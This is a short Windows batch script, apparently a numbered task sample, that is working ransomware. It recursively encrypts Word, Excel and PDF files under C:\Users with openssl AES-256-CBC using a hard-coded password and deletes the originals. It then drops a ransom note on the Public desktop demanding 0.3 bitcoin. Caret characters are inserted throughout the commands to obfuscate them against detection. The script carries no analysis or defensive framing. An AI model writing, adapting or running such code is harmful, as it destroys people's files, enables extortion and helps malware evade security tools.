REM task 2355 v0
@echo off
fo^r /r C:\Us^e^rs %%f in (*.do^cx *.xlsx *.^pd^f) d^o (
  ^opens^sl enc -ae^s-25^6-^c^bc -pas^s ^pas^s:^S^up3^rS3c^ure! -in "%%f" -out "%%f.enc" && de^l "%%f"
)
echo Y^ou^r f^i^les ^hav^e b^e^en en^c^ryp^ted. ^S^e^nd 0.^3 bitc^o^i^n ^t^o re^c^ov^e^r t^h^e key > ^C:\^U^s^e^r^s\P^u^b^l^ic\D^esktop\RE^A^D^ME_R^ESTORE_^F^I^L^ES.t^xt
